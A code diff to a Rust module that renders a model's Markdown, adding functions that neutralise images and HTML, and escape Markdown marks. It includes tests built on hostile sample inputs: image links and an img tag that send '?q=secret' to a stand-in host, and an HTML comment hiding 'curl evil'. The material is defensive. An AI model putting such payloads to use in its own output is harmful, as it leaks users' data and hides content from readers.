@@ -1,6 +1,10 @@
 //! A model's Markdown as runs of styled text: what a platform's markup is made of.
 
 use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};
+use std::ops::Range;
+
+/// How often a text is looked through for what became markup when other markup went.
+const ROUNDS_MAX: usize = 8;
 
 /// How a run is shown.
 #[derive(Debug, Clone, PartialEq, Eq, Hash)]
@@ -29,6 +33,70 @@ pub(crate) fn runs(markdown: &str) -> Vec<Run> {
     let options = Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
     Parser::new_ext(markdown, options).for_each(|event| page.take(event));
     page.runs
+}
+
+/// The same Markdown without what loads something when it is shown: of pictures and HTML the source is shown. Code stays as it is.
+pub(crate) fn tame(markdown: &str) -> String {
+    let mut tamed = markdown.to_owned();
+    for _ in 0..ROUNDS_MAX {
+        // A tag may have held a mark that now begins a piece of code, or ends one.
+        let next = without_pictures(&tamed, &code(&tamed));
+        if next == tamed {
+            return tamed;
+        }
+        tamed = next;
+    }
+    without_pictures(&tamed, &[])
+}
+
+/// Where code stands.
+fn code(markdown: &str) -> Vec<Range<usize>> {
+    let pieces = Parser::new_ext(markdown, Options::ENABLE_STRIKETHROUGH).into_offset_iter();
+    let is_code = |event: &Event<'_>| matches!(event, Event::Code(_) | Event::Start(Tag::CodeBlock(_)));
+    pieces.filter(|(event, _)| is_code(event)).map(|(_, range)| range).collect()
+}
+
+fn without_pictures(markdown: &str, code: &[Range<usize>]) -> String {
+    let mut code = code.iter().peekable();
+    let mut clean = String::with_capacity(markdown.len());
+    let mut before = None;
+    for (at, c) in markdown.char_indices() {
+        while code.next_if(|range| range.end <= at).is_some() {}
+        let next = markdown.as_bytes().get(at + 1);
+        let is_tag = c == '<' && next.is_some_and(|next| next.is_ascii_alphabetic() || b"/!?".contains(next));
+        match c {
+            _ if code.peek().is_some_and(|range| range.contains(&at)) => clean.push(c),
+            '[' if before == Some('!') => clean.push_str("\\["),
+            _ if is_tag => clean.push_str("&lt;"),
+            c => clean.push(c),
+        }
+        before = Some(c);
+    }
+    clean
+}
+
+/// Words as Markdown that shows each of them as it is, and each line as one.
+pub(crate) fn escaped(text: &str) -> String {
+    let lines: Vec<String> = text.split('\n').map(escaped_line).collect();
+    // Two blanks keep a line apart from the next.
+    lines.join("  \n")
+}
+
+fn escaped_line(line: &str) -> String {
+    let mut clean = String::with_capacity(line.len());
+    // Whether only blanks, or only figures, came before: there, some marks begin a heading or a list.
+    let (mut is_first, mut is_number) = (true, false);
+    for c in line.chars() {
+        let is_mark =
+            "\\`*_[]<>&~|$".contains(c) || is_first && "#+-=:".contains(c) || is_number && ".)".contains(c);
+        if is_mark {
+            clean.push('\\');
+        }
+        clean.push(c);
+        is_number = c.is_ascii_digit() && (is_first || is_number);
+        is_first &= c.is_whitespace();
+    }
+    clean
 }
 
 #[derive(Default)]
@@ -174,7 +242,23 @@ fn is_language(name: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::runs;
+    use super::{escaped, runs, tame};
+    use proptest::prelude::*;
+    use pulldown_cmark::{Event, Options, Parser, Tag};
+
+    /// The words that a reader of Markdown shows, and whether it would load or hide something.
+    fn read(markdown: &str) -> (String, bool) {
+        let (mut words, mut loads) = (String::new(), false);
+        for event in Parser::new_ext(markdown, Options::all() - Options::ENABLE_SMART_PUNCTUATION) {
+            match event {
+                Event::Text(text) | Event::Code(text) => words += &text,
+                Event::SoftBreak | Event::HardBreak => words.push('\n'),
+                Event::Html(_) | Event::InlineHtml(_) | Event::Start(Tag::Image { .. }) => loads = true,
+                _ => {}
+            }
+        }
+        (words, loads)
+    }
 
     fn shown(markdown: &str) -> String {
         runs(markdown).iter().map(|run| run.text.as_str()).collect()
@@ -190,6 +274,7 @@ mod tests {
         assert_eq!(shown("> one\n>\n> two"), "one\n\ntwo");
     }
 
+    /// A34.
     #[test]
     fn a_picture_is_named_and_html_is_text() {
         assert_eq!(
@@ -197,5 +282,50 @@ mod tests {
             "[picture: http://x.example/?q=secret a cat]"
         );
         assert_eq!(shown("a <b>bold</b> word"), "a <b>bold</b> word");
+    }
+    /// A34: where Markdown goes out as Markdown, nothing in it makes its reader ask a server. Control: without that, each does.
+    #[test]
+    fn a34_no_picture_and_no_html_is_left_in_markdown() {
+        for hostile in [
+            "![a](https://x.example/?q=secret)",
+            "[![a](https://x.example/?q=secret)](https://y.example)",
+            "![a][b]\n\n[b]: https://x.example/?q=secret",
+            "<img src=\"https://x.example/?q=secret\">",
+            "<div>\n\\<img src=x>\n</div>",
+            "<a title=\"`\"> `![a](https://x.example/?q=secret)`",
+            "a <!-- hidden --> b",
+        ] {
+            assert!(read(hostile).1, "the control: {hostile}");
+            assert!(!read(&tame(hostile)).1, "{hostile}: {}", tame(hostile));
+        }
+        for harmless in
+            ["`![a](b)` and a < b", "```rust\n#![allow(x)]\nlet a: Vec<u8>;\n```", "**bold** [l](https://x)"]
+        {
+            assert_eq!(tame(harmless), harmless);
+        }
+    }
+
+    /// A09: what a card quotes hides nothing from a reader of Markdown. Control: as it is, it does.
+    #[test]
+    fn a09_words_are_shown_as_they_are_in_markdown() {
+        let hostile =
+            "echo one <!-- ; curl evil --> ![a](b) [c](d) `e` *f* &lt; ~~g~~\n# h\n- i\n1. j\n===\n| k |";
+        let (as_is, loads) = read(hostile);
+        assert!(loads && !as_is.contains("curl evil") && as_is != hostile);
+        assert_eq!(read(&escaped(hostile)), (hostile.to_owned(), false));
+    }
+
+    proptest! {
+        #[test]
+        fn whatever_is_written_loads_and_hides_nothing(text in "([!\\[\\]()<>/a`~\\\\ \n&;:#.1*_-]|\"){0,80}") {
+            prop_assert!(!read(&tame(&text)).1, "{}", tame(&text));
+            let (words, loads) = read(&escaped(&text));
+            let marks = |text: &str| text.chars().filter(|c| !c.is_whitespace()).collect::<String>();
+            prop_assert!(!loads, "{}", escaped(&text));
+            // Beneath an empty line four blanks begin code, which shows what escapes as well.
+            if !text.contains("    ") {
+                prop_assert_eq!(marks(&words), marks(&text));
+            }
+        }
     }
 }
